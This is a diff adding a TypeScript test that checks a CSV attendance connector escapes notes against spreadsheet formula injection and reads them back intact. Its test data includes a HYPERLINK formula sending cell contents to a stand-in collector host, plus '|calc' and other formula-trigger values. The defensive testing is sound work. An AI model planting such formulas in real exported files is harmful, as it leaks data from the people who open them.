@@ -161,6 +161,27 @@ test('marks become one file for the group to read, and the same write leaves it 
   assert.deepEqual(readdirSync(writebackFolder), [`${trackingId}.csv`]);
 });
 
+const notesOf = [
+  '=HYPERLINK("https://collector.example/"&A1)', '+44 20 7946 0000', '-1', '@SUM(A1)', '|calc', '%0', '\t=1', "'=1", "''", "'tis late", 'Bus',
+];
+
+test('no note is a formula to a spreadsheet, and each comes back as it was', async () => {
+  const writebackFolder = newFolder();
+  const connector = createCsvConnector({ folder: undefined, writebackFolder, hasAttendance: true });
+  const marks = notesOf.map((notes, line) => mark(line, { mark: line === 0 ? '\\' : '-', notes }));
+  await write(connector, { trackingId, partial: false, marks });
+  const text = readFileSync(join(writebackFolder, `${trackingId}.csv`), 'utf8');
+  const cells = text.trim().split('\r\n').slice(1).map((line) => /^[^,]*,[^,]*,AM,(.*?),,(.*)$/s.exec(line)?.slice(1) ?? []);
+  for (const [code, cell = ''] of cells) {
+    assert.match(cell, /^"?(?:'|\p{L})/u, cell);
+    assert.match(code ?? '', /^[\\-]$/, 'a mark is written as it is');
+  }
+  const read: (string | undefined)[] = [];
+  const source = connect(newFolder({ 'manifest.csv': manifest, 'orgs.csv': orgs, 'attendance.csv': text }));
+  for await (const batch of source.readMarks?.(new Problems()) ?? assert.fail()) read.push(...batch.map(({ notes }) => notes));
+  assert.deepEqual(read, notesOf);
+});
+
 test('a marks file is never seen half written, also when several write it at once', async () => {
   const writebackFolder = newFolder();
   const connector = createCsvConnector({ folder: undefined, writebackFolder, hasAttendance: true });
